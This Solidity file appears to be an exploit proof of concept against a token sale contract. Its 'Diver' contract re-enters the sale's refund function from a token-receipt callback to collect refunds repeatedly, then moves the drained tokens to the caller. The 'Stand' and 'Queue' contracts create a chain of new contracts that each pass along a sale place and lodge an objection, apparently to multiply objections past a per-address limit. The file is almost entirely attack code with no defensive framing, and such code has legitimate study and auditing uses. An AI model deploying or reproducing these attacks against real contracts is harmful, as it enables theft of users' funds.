// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface Token {
    function approve(address spender, uint256 amount) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function tellMe(bool wanted) external;
}

interface Sale {
    function join(uint256 coins) external;
    function leave(uint256 coins) external;
    function refund() external;
    function object() external;
    function movePlace(address to) external;
    function paidBy(address buyer) external view returns (uint256);
}

/// Asks for a refund again while it is being paid.
contract Diver {
    Token private immutable coin;
    Sale private immutable sale;
    uint256 private left;

    constructor(Token money, Sale target) {
        coin = money;
        sale = target;
    }

    function enter(uint256 amount) external {
        coin.approve(address(sale), amount);
        sale.join(amount);
    }

    function dive(uint256 times) external {
        coin.tellMe(true);
        left = times;
        sale.refund();
        coin.tellMe(false);
        coin.transfer(msg.sender, coin.balanceOf(address(this)));
    }

    function tokensReceived(address, uint256) external {
        if (left == 0) return;
        left -= 1;
        try sale.refund() {} catch {}
    }
}

/// Holds a place in the sale for its owner for a while.
contract Stand {
    function objectAndPass(Sale sale, address to) external {
        sale.object();
        sale.movePlace(to);
    }
}

/// Passes a place from stand to stand, each of which objects.
contract Queue {
    function run(Sale sale, uint256 times) external {
        Stand stand = new Stand();
        sale.movePlace(address(stand));
        for (uint256 i = 0; i < times; i++) {
            Stand next = new Stand();
            try stand.objectAndPass(sale, address(next)) {
                stand = next;
            } catch {
                return;
            }
        }
    }

    function enter(Sale sale, Token coin, uint256 amount) external {
        coin.approve(address(sale), amount);
        sale.join(amount);
    }
}
